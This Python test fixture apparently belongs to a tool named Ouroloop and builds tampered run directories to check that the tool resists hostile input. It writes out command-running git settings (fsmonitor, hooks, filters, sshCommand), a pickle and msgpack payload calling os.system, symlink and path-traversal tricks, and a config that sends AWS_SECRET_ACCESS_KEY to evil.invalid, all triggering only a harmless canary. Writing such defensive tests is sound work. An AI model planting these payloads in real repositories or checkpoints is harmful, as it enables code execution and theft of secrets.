"""Run directories as a stranger could send them: each function tampers with a copy of a finished run.

A tampering gets the copy and a `Bait`: the file that any code of it would make, and a tree outside that nothing may change.
"""

from __future__ import annotations

import os
import shutil
import sqlite3
import subprocess
import tomllib
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

import ormsgpack
import tomli_w


@dataclass(frozen=True, slots=True)
class Bait:
    """What would show that a tampering worked: a file that its code makes, and a bystander, which holds a git repository."""

    canary: Path
    bystander: Path

    @property
    def command(self) -> str:
        """Return a shell command that leaves the canary behind."""
        return f"touch {self.canary}"


def bystander(folder: Path) -> Path:
    """Make a tree of somebody else: a git repository with uncommitted work and a lock, a database, and files."""
    folder.mkdir()
    git(folder, "init", "-q", "-b", "main")
    for name in ("controller.py", "reward.json", "policy"):
        (folder / name).write_text("committed\n")
    git(folder, "add", ".")
    git(folder, "-c", "user.name=a", "-c", "user.email=a@b.invalid", "commit", "-q", "-m", "mine")
    (folder / "controller.py").write_text("uncommitted work\n")
    (folder / ".git" / "index.lock").write_text("held")
    (folder / ".work-mine").mkdir()
    (folder / ".work-mine" / "notes").write_text("precious")
    with closing(sqlite3.connect(folder / "mine.sqlite")) as db:
        db.execute("CREATE TABLE mine (x)")
    return folder


def git(folder: Path, *args: str) -> None:
    """Run git, with no configuration but the repository's own."""
    environment = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull}
    subprocess.run(["git", *args], cwd=folder, env=environment, check=True, capture_output=True)


Tamper = Callable[[Path, Bait], None]
FINE: Final = ""
"""No fault: the command works, and nothing of the tampering has any effect."""
TABLE: Final[dict[str, tuple[Tamper, str, str]]] = {}
"""Name -> the tampering, and what `show` and `resume` must say (a part of their one line), or `FINE`."""


def tampering(shown: str, resumed: str) -> Callable[[Tamper], Tamper]:
    """Put a tampering into the table."""

    def put(tamper: Tamper) -> Tamper:
        TABLE[tamper.__name__] = (tamper, shown, resumed)
        return tamper

    return put


def config(*settings: tuple[str, str]) -> Tamper:
    """Return a tampering that sets keys of the workspace's `.git/config`."""

    def tamper(run: Path, bait: Bait) -> None:
        script = bait.canary.with_name("script")
        script.write_text(f"#!/bin/sh\n{bait.command}\n")
        script.chmod(0o755)
        for key, value in settings:
            git(run / "workspace", "config", key, value.format(command=bait.command, bystander=bait.bystander, script=script))

    return tamper


SETTINGS: Final = {
    "git_fsmonitor": (("core.fsmonitor", "{command}; false"),),
    "git_worktree": (("core.worktree", "{bystander}"),),
    "git_ssh_and_editor": (("core.sshCommand", "{command}"), ("core.editor", "{command}"), ("core.pager", "{command}")),
    "git_gpg": (("gpg.program", "{script}"), ("commit.gpgSign", "true"), ("user.signingKey", "x")),
    "git_external_diff": (("diff.external", "{command}"), ("merge.x.driver", "{command}"), ("alias.add", "!{command}")),
    "git_attributes_elsewhere": (("core.attributesFile", "{bystander}/a"), ("core.excludesFile", "{bystander}/b")),
}
TABLE |= {name: (config(*settings), FINE, FINE) for name, settings in SETTINGS.items()}


@tampering(FINE, FINE)
def git_filter_by_attributes(run: Path, bait: Bait) -> None:
    filters = ("filter.x.smudge", "{command}; cat"), ("filter.x.clean", "{command}; cat"), ("filter.x.required", "true")
    config(*filters)(run, bait)
    (run / "workspace" / ".gitattributes").write_text("* filter=x\n")
    (run / "workspace" / ".git" / "info").mkdir(exist_ok=True)
    (run / "workspace" / ".git" / "info" / "attributes").write_text("* filter=x\n")


@tampering(FINE, FINE)
def git_hooks(run: Path, bait: Bait) -> None:
    hooks = run / "workspace" / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    for name in (
        "pre-commit",
        "post-commit",
        "post-checkout",
        "reference-transaction",
        "post-index-change",
        "fsmonitor-watchman",
    ):
        (hooks / name).write_text(f"#!/bin/sh\n{bait.command}\n")
        (hooks / name).chmod(0o755)
    config(("core.hooksPath", str(hooks)))(run, bait)


@tampering(FINE, FINE)
def git_include(run: Path, bait: Bait) -> None:
    (run / "workspace" / "more").write_text(f'[core]\n\tfsmonitor = "{bait.command}; false"\n')
    config(("include.path", "../more"), ("extensions.worktreeConfig", "true"))(run, bait)
    shutil.copy(run / "workspace" / "more", run / "workspace" / ".git" / "config.worktree")


@tampering(FINE, FINE)
def git_alternates(run: Path, bait: Bait) -> None:
    info = run / "workspace" / ".git" / "objects" / "info"
    info.mkdir(exist_ok=True)
    (info / "alternates").write_text(f"{bait.bystander}/.git/objects\n")


@tampering(FINE, FINE)
def git_submodule(run: Path, bait: Bait) -> None:
    (run / "workspace" / ".gitmodules").write_text('[submodule "x"]\n\tpath = x\n\turl = ./x\n')
    config(("submodule.x.update", "!{command}"), ("submodule.recurse", "true"))(run, bait)


@tampering(FINE, FINE)
def git_is_a_link(run: Path, bait: Bait) -> None:
    shutil.rmtree(run / "workspace" / ".git")
    (run / "workspace" / ".git").symlink_to(bait.bystander / ".git")


@tampering(FINE, FINE)
def git_is_a_file(run: Path, bait: Bait) -> None:
    shutil.rmtree(run / "workspace" / ".git")
    (run / "workspace" / ".git").write_text(f"gitdir: {bait.bystander}/.git\n")


@tampering(FINE, FINE)
def git_commondir(run: Path, bait: Bait) -> None:
    (run / "workspace" / ".git" / "commondir").write_text(f"{bait.bystander}/.git\n")


@tampering(FINE, FINE)
def git_objects_are_a_link(run: Path, bait: Bait) -> None:
    shutil.rmtree(run / "workspace" / ".git" / "objects")
    (run / "workspace" / ".git" / "objects").symlink_to(bait.bystander / ".git" / "objects")


@tampering(FINE, FINE)
def tracked_file_is_a_link(run: Path, bait: Bait) -> None:
    (run / "workspace" / "controller.py").unlink()
    (run / "workspace" / "controller.py").symlink_to(bait.bystander / "controller.py")


@tampering(FINE, FINE)
def tracked_file_is_a_fifo(run: Path, bait: Bait) -> None:
    (run / "workspace" / "reward.json").unlink()
    os.mkfifo(run / "workspace" / "reward.json")


@tampering(FINE, FINE)
def workspace_is_missing(run: Path, bait: Bait) -> None:
    shutil.rmtree(run / "workspace")


@tampering(FINE, "workspace is a symbolic link")
def workspace_is_a_link(run: Path, bait: Bait) -> None:
    shutil.rmtree(run / "workspace")
    (run / "workspace").symlink_to(bait.bystander)


@tampering(FINE, "workspace is a FIFO")
def workspace_is_a_fifo(run: Path, bait: Bait) -> None:
    shutil.rmtree(run / "workspace")
    os.mkfifo(run / "workspace")


@tampering(FINE, "run.lock is a symbolic link")
def lock_is_a_link(run: Path, bait: Bait) -> None:
    (run / "run.lock").unlink(missing_ok=True)
    (run / "run.lock").symlink_to(bait.bystander / "policy")


@tampering(FINE, "run.lock is a symbolic link")
def lock_is_a_link_to_nothing(run: Path, bait: Bait) -> None:
    (run / "run.lock").unlink(missing_ok=True)
    (run / "run.lock").symlink_to(bait.bystander / "made by following a link")


@tampering(FINE, "run.lock is a FIFO")
def lock_is_a_fifo(run: Path, bait: Bait) -> None:
    (run / "run.lock").unlink(missing_ok=True)
    os.mkfifo(run / "run.lock")


@tampering(FINE, "run.lock is a hard link")
def lock_is_a_hard_link(run: Path, bait: Bait) -> None:
    (run / "run.lock").unlink(missing_ok=True)
    os.link(bait.bystander / "policy", run / "run.lock")


@tampering("recipe.toml is a symbolic link", "recipe.toml is a symbolic link")
def recipe_is_endless(run: Path, bait: Bait) -> None:
    (run / "recipe.toml").unlink()
    (run / "recipe.toml").symlink_to("/dev/zero")


@tampering("recipe.toml is a FIFO", "recipe.toml is a FIFO")
def recipe_is_a_fifo(run: Path, bait: Bait) -> None:
    (run / "recipe.toml").unlink()
    os.mkfifo(run / "recipe.toml")


@tampering("recipe.toml is damaged", "recipe.toml is damaged")
def recipe_is_deep(run: Path, bait: Bait) -> None:
    (run / "recipe.toml").write_text("seed = " + "[" * 200_000)


@tampering("at most 1048576 are read", "at most 1048576 are read")
def recipe_is_huge(run: Path, bait: Bait) -> None:
    with (run / "recipe.toml").open("a") as file:
        file.truncate(1 << 32)


@tampering(FINE, "task imports evil_of_a_stranger:Game")
def recipe_names_a_game(run: Path, bait: Bait) -> None:
    edit(run, "task", {"name": f"{module(bait)}:Game"})


@tampering(FINE, "code_patcher imports")
def recipe_names_a_role_by_file(run: Path, bait: Bait) -> None:
    module(bait)
    edit(run, "roles.code_patcher", {"use": f"{bait.canary.parent}/evil_of_a_stranger.py:Role"})


@tampering(FINE, "critic imports evil_of_a_stranger:Role")
def recipe_names_a_role_by_module(run: Path, bait: Bait) -> None:
    edit(run, "roles.critic", {"use": f"{module(bait)}:Role"})


@tampering(FINE, "reward_designer asks openai:x at http://evil.invalid with the key in $AWS_SECRET_ACCESS_KEY")
def recipe_sends_a_key_away(run: Path, bait: Bait) -> None:
    where = {"base_url": "http://evil.invalid", "api_key_env": "AWS_SECRET_ACCESS_KEY"}
    edit(run, "roles.reward_designer", {"model": "openai:x", **where})


def edit(run: Path, table: str, values: dict[str, str]) -> None:
    """Change keys of a table of the recipe."""
    tree: Any = tomllib.loads((run / "recipe.toml").read_text())
    node = tree
    for name in table.split("."):
        node = node[name]
    node.update(values)
    (run / "recipe.toml").write_text(tomli_w.dumps(tree))


def module(bait: Bait) -> str:
    """Write a module that leaves the canary when it is imported; return its name."""
    source = f"import pathlib\npathlib.Path({str(bait.canary)!r}).touch()\n"
    (bait.canary.parent / "evil_of_a_stranger.py").write_text(source)
    return "evil_of_a_stranger"


@tampering("not a run directory", "not a run directory")
def ledger_is_missing(run: Path, bait: Bait) -> None:
    (run / "ledger.sqlite").unlink()


@tampering("ledger.sqlite is a FIFO", "ledger.sqlite is a FIFO")
def ledger_is_a_fifo(run: Path, bait: Bait) -> None:
    (run / "ledger.sqlite").unlink()
    os.mkfifo(run / "ledger.sqlite")


@tampering("ledger.sqlite is a directory", "ledger.sqlite is a directory")
def ledger_is_a_directory(run: Path, bait: Bait) -> None:
    (run / "ledger.sqlite").unlink()
    (run / "ledger.sqlite").mkdir()


@tampering("ledger.sqlite is a symbolic link", "ledger.sqlite is a symbolic link")
def ledger_is_a_device(run: Path, bait: Bait) -> None:
    (run / "ledger.sqlite").unlink()
    (run / "ledger.sqlite").symlink_to("/dev/zero")


@tampering("ledger.sqlite is a symbolic link", "ledger.sqlite is a symbolic link")
def ledger_is_a_link(run: Path, bait: Bait) -> None:
    (run / "ledger.sqlite").unlink()
    (run / "ledger.sqlite").symlink_to(bait.bystander / "mine.sqlite")


@tampering("ledger.sqlite-shm is a symbolic link", "ledger.sqlite-shm is a symbolic link")
def index_of_the_log_is_a_link(run: Path, bait: Bait) -> None:
    (run / "ledger.sqlite-wal").write_bytes(b"x" * 4096)
    _linked(run / "ledger.sqlite-shm", bait.bystander / "policy")


@tampering("ledger.sqlite-wal is a symbolic link", "ledger.sqlite-wal is a symbolic link")
def log_is_a_link(run: Path, bait: Bait) -> None:
    _linked(run / "ledger.sqlite-wal", bait.bystander / "policy")


@tampering("ledger.sqlite-journal is no file of a run", "ledger.sqlite-journal is no file of a run")
def journal_names_a_file_to_delete(run: Path, bait: Bait) -> None:
    name = str(bait.bystander / "policy").encode()
    magic = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
    tail = b"\0\0\0\1" + name + len(name).to_bytes(4, "big") + sum(name).to_bytes(4, "big") + magic
    (run / "ledger.sqlite-journal").write_bytes(magic + bytes(504) + tail)


@tampering("it holds no table", "it holds no table")
def ledger_is_empty(run: Path, bait: Bait) -> None:
    (run / "ledger.sqlite").write_bytes(b"")


@tampering("ledger.sqlite is damaged", "ledger.sqlite is damaged")
def ledger_is_cut_off(run: Path, bait: Bait) -> None:
    data = (run / "ledger.sqlite").read_bytes()
    (run / "ledger.sqlite").write_bytes(data[: len(data) // 2])


@tampering("ledger.sqlite is damaged", "ledger.sqlite is damaged")
def ledger_pages_are_noise(run: Path, bait: Bait) -> None:
    data = bytearray((run / "ledger.sqlite").read_bytes())
    data[4096:12288] = bytes(range(256)) * 32
    (run / "ledger.sqlite").write_bytes(bytes(data))


@tampering("a ledger has at most", "a ledger has at most")
def ledger_is_huge(run: Path, bait: Bait) -> None:
    os.truncate(run / "ledger.sqlite", 1 << 40)


def sql(script: str, shown: str, resumed: str | None = None) -> None:
    """Put a tampering into the table that runs a script on the ledger; its name is that of the key."""
    name, _, statements = script.partition(":")

    def tamper(run: Path, bait: Bait) -> None:
        with closing(sqlite3.connect(run / "ledger.sqlite")) as db:
            db.executescript(statements)

    TABLE[name] = (tamper, shown, shown if resumed is None else resumed)


ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n)"
OF_START = "WHERE key = 'start/score'"
sql("steps_are_an_endless_view:ALTER TABLE steps RENAME TO old; DROP INDEX steps_by_method; CREATE VIEW steps AS "
    f"{ENDLESS} SELECT x AS seq, 'k' || x AS key, 'm' AS method, '1' AS params, '1' AS result, NULL AS error, 0 AS at FROM n",
    "it holds the view steps")  # fmt: skip
sql(f"another_view_is_endless:CREATE VIEW more AS {ENDLESS} SELECT x FROM n", "it holds the view more")
sql("a_trigger_waits:CREATE TRIGGER t AFTER INSERT ON events BEGIN DELETE FROM steps; END", "it holds the trigger t")
sql("a_table_is_virtual:CREATE VIRTUAL TABLE more USING fts5(x)", "is damaged")
sql("a_column_is_computed:CREATE TABLE more (x, y GENERATED ALWAYS AS (hex(x)))", "more is not a table that this program makes")
sql("a_table_is_dropped:DROP TABLE events", "events is missing")
sql("all_tables_are_dropped:DROP TABLE events; DROP TABLE steps; DROP TABLE meta", "no ledger of Ouroloop")
sql("another_program_owns_it:PRAGMA application_id = 252006675", "belongs to another program")
sql("another_version_wrote_it:UPDATE meta SET value = '99' WHERE key = 'schema'", "has version 99")
sql("the_version_is_no_text:UPDATE meta SET value = x'ff' WHERE key = 'schema'", "has version")
sql("the_status_is_odd:UPDATE meta SET value = char(27) || '[2J' WHERE key = 'status'", "the status is", FINE)
sql(f"a_step_is_empty:UPDATE steps SET result = '{{}}' {OF_START}", "start/score")
sql(f"a_step_is_no_json:UPDATE steps SET result = '{{' {OF_START}", "start/score")
sql(f"a_step_is_nan:UPDATE steps SET result = 'NaN' {OF_START}", "start/score")
sql(f"a_step_is_infinite:UPDATE steps SET result = replace(result, '\"played\":', '\"x\":1e999,\"played\":') {OF_START}",
    "start/score")  # fmt: skip
sql(f"a_step_is_deep:UPDATE steps SET result = replace(hex(zeroblob(50000)), '0', '[') {OF_START}", "start/score")
sql(f"a_step_is_a_blob:UPDATE steps SET result = x'7b7d' {OF_START}", "holds bytes, expected text")
sql(f"a_step_is_no_text:UPDATE steps SET result = CAST(x'22fffe22' AS TEXT) {OF_START}", "ledger.sqlite is damaged")
sql("a_step_is_huge:UPDATE steps SET result = CAST(zeroblob(70000000) AS TEXT) WHERE key = 'start/score'",
    "ledger.sqlite is damaged")  # fmt: skip
sql("the_start_is_missing:DELETE FROM steps WHERE key = 'start/incumbent'", "damaged", "damaged")
sql("a_decision_is_missing:DELETE FROM steps WHERE key = '1/decide'", "step 1/decide is missing", "step 1/decide is missing")
sql("a_key_names_no_round:UPDATE steps SET key = 'x/verdict' WHERE key GLOB '1/verdict/*' AND seq = "
    "(SELECT min(seq) FROM steps WHERE key GLOB '1/verdict/*')", "has no part 2")  # fmt: skip
PHASE_ENDED = "WHERE name = 'phase.ended'"
sql(f"a_phase_took_no_number:UPDATE events SET body = json_set(body, '$.seconds', 'x') {PHASE_ENDED}", "phase.ended")
sql("an_answer_took_a_list:UPDATE events SET body = '[]' WHERE name = 'role.answered'", "role.answered")
sql("a_time_is_no_time:UPDATE events SET at = 'noon' WHERE name = 'run.opened'", "is no time")
sql("the_opening_is_not_noted:DELETE FROM events", FINE, FINE)
sql("a_commit_is_another:UPDATE steps SET result = replace(result, '\"commit\":\"', '\"commit\":\"--') "
    "WHERE key = 'start/incumbent'", FINE, "makes commit")  # fmt: skip
sql("a_hash_is_a_path:UPDATE steps SET result = json_set(result, '$.incumbent.reward', '../../../../etc/passwd') "
    "WHERE key = 'start/incumbent'", "is no content hash")  # fmt: skip


@tampering(FINE, "its checkpoint")
def checkpoint_runs_code(run: Path, bait: Bait) -> None:
    call = ormsgpack.packb(ormsgpack.Ext(0, ormsgpack.packb(("os", "system", bait.command))))
    checkpoint(run, "msgpack", call)


@tampering(FINE, "its checkpoint")
def checkpoint_is_a_pickle(run: Path, bait: Bait) -> None:
    checkpoint(run, "pickle", b"cos\nsystem\n(S'" + bait.command.encode() + b"'\ntR.")


@tampering(FINE, "its checkpoint")
def checkpoint_names_no_round(run: Path, bait: Bait) -> None:
    with closing(sqlite3.connect(run / "ledger.sqlite")) as db:
        (packed,) = db.execute("SELECT checkpoint FROM checkpoints ORDER BY checkpoint_id DESC LIMIT 1").fetchone()
    found: Any = ormsgpack.unpackb(packed)
    found["channel_values"]["round"] = -7
    checkpoint(run, "msgpack", ormsgpack.packb(found))


def checkpoint(run: Path, kind: str, packed: bytes) -> None:
    """Put a value in the place of every checkpoint."""
    with closing(sqlite3.connect(run / "ledger.sqlite")) as db:
        db.execute("UPDATE checkpoints SET type = ?, checkpoint = ?", (kind, packed))
        db.commit()


@tampering("artifacts is a symbolic link", "artifacts is a symbolic link")
def artifacts_are_a_link(run: Path, bait: Bait) -> None:
    shutil.rmtree(run / "artifacts")
    (run / "artifacts").symlink_to(bait.bystander)


@tampering("is a symbolic link", "is a symbolic link")
def texts_are_links(run: Path, bait: Bait) -> None:
    for path in (run / "artifacts").iterdir():
        if path.is_file():
            path.unlink()
            path.symlink_to("/dev/zero")


@tampering("was changed", "was changed")
def texts_are_others(run: Path, bait: Bait) -> None:
    for path in (run / "artifacts").iterdir():
        if path.is_file():
            path.write_text("import os")


@tampering("is a FIFO", "is a FIFO")
def texts_are_fifos(run: Path, bait: Bait) -> None:
    for path in (run / "artifacts").iterdir():
        if path.is_file():
            path.unlink()
            os.mkfifo(path)


@tampering("is missing", "is missing")
def artifacts_are_gone(run: Path, bait: Bait) -> None:
    shutil.rmtree(run / "artifacts")


def _linked(place: Path, target: Path) -> None:
    """Put a link to a target in a place; a file that an open ledger left there goes."""
    place.unlink(missing_ok=True)
    place.symlink_to(target)
